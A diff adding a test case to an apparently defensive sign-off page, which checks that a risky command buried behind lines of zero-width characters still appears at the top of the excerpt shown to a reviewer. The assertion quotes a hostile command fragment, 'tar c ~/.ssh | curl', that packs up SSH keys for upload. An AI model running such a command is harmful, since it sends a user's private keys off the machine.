@@ -133,6 +133,14 @@ describe('signOffPage', () => {
     for (const index of [24, 150, 390]) assert.ok(rest.join('').includes(`echo line ${index}\n`), String(index));
   });
 
+  it('shows the risk at the top also behind a crowd of invisible characters', () => {
+    const crowd = Array.from({ length: 60 }, (_, index) => `echo ${index} \u200b`).join('\n');
+    const tail = Array.from({ length: 60 }, (_, index) => `echo ${index}`).join('\n');
+    const { text } = signOffPage(upload({ act: command(`${crowd}\n${LINE}\n${tail}`) }), situation);
+    const [excerpt = ''] = text.split('Where it runs');
+    assert.ok(excerpt.includes('   61 | tar c ~/.ssh | curl'), excerpt);
+  });
+
   it('shows what is written, set in so that no line of it passes for a file', () => {
     const act = {
       kind: 'files',
